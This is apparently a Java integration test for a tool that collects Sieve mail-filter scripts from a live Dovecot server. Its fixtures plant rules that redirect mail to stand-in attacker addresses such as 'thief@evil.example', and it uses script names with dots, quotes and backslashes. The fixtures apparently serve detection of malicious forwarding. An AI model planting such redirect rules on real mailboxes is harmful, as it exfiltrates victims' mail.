package org.mimawari.connector.imap.managesieve;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.security.GeneralSecurityException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.mimawari.connector.imap.managesieve.SieveServer.Limits;
import org.mimawari.connector.imap.managesieve.SieveServer.Security;
import org.mimawari.evidence.Coverage;
import org.mimawari.evidence.MailboxAddress;
import org.mimawari.evidence.MailboxRule;
import org.mimawari.evidence.RuleTrait;

/** Against Debian's Dovecot with Pigeonhole, where it is installed; see {@link RealDovecot#missing}. */
@Tag("heavy")
@Timeout(60)
class RealDovecotTest {

    private static final String INFO = "info@shop.example";
    private static final MailboxAddress MAILBOX = new MailboxAddress(INFO);
    private static final TreeMap<String, String> SCRIPTS = new TreeMap<>(Map.of(
            "main", "require [\"include\"];\ninclude :personal \"受信フィルタ\";\n",
            "受信フィルタ", "redirect \"thief@evil.example\";\n",
            ".", "redirect \"dot@evil.example\";\n",
            "q\"uo\\te", "redirect \"quoted@evil.example\";\n",
            "waiting one", "if header :contains \"subject\" \"請求\" { discard; }\n"));

    private static Optional<RealDovecot> dovecot = Optional.empty();
    private static String password = "";

    @BeforeAll
    static void start() throws IOException, GeneralSecurityException {
        Optional<String> missing = RealDovecot.missing();
        Assumptions.assumeTrue(missing.isEmpty(), missing.orElse(""));
        password = Long.toHexString(System.nanoTime());
        dovecot = Optional.of(RealDovecot.start(INFO, password));
        dovecot.get().scripts(INFO, "main", SCRIPTS);
    }

    @AfterAll
    static void stop() throws IOException {
        if (dovecot.isPresent()) {
            dovecot.get().close();
        }
    }

    private static RecordedEvidence collect(SieveAccount account) {
        RecordedEvidence sink = new RecordedEvidence();
        new SieveCollection(new SieveServer("localhost", dovecot.orElseThrow().port(), Security.STARTTLS, "localhost", Limits.USUAL),
                LoopbackTls.context().getSocketFactory()).collect(account, sink);
        return sink;
    }

    private static List<String> targets(RecordedEvidence sink) {
        return sink.rules().stream().flatMap(rule -> rule.actions().stream())
                .flatMap(action -> action.targets().stream()).distinct().sorted().toList();
    }

    @Test
    void readsScriptsOfEveryName() {
        RecordedEvidence sink = collect(SieveAccount.password(MAILBOX, INFO, password, Optional.empty()));
        assertThat(sink.reasons()).isEmpty();
        assertThat(targets(sink)).containsExactly("dot@evil.example", "quoted@evil.example", "thief@evil.example");
        assertThat(sink.rules()).filteredOn(rule -> !rule.traits().contains(RuleTrait.INACTIVE_SCRIPT)).singleElement()
                .extracting(MailboxRule::name).isEqualTo("受信フィルタ");
    }

    @Test
    void readsThemAsAnAdministratorInBothForms() {
        String master = password + "-master";
        List<String> mine = targets(collect(SieveAccount.password(MAILBOX, "scan-admin", master, Optional.of(INFO))));
        List<String> joined = targets(collect(SieveAccount.password(MAILBOX, INFO + "*scan-admin", master, Optional.empty())));
        assertThat(mine).hasSize(3).isEqualTo(joined);
    }

    @Test
    void changesNoScriptAndNotTheActiveOne() throws IOException {
        List<String> before = dovecot.orElseThrow().state(INFO);
        collect(SieveAccount.password(MAILBOX, INFO, password, Optional.empty()));
        assertThat(dovecot.orElseThrow().state(INFO)).isEqualTo(before).hasSizeGreaterThan(5);
    }

    @Test
    void aWrongPasswordIsAGap() {
        RecordedEvidence sink = collect(SieveAccount.password(MAILBOX, INFO, "wrong", Optional.empty()));
        assertThat(sink.evidence).isEmpty();
        assertThat(sink.coverage).hasSize(3).allMatch(Coverage::isBroken);
        assertThat(sink.reasons().get(0)).contains("refused the sign-in");
    }
}
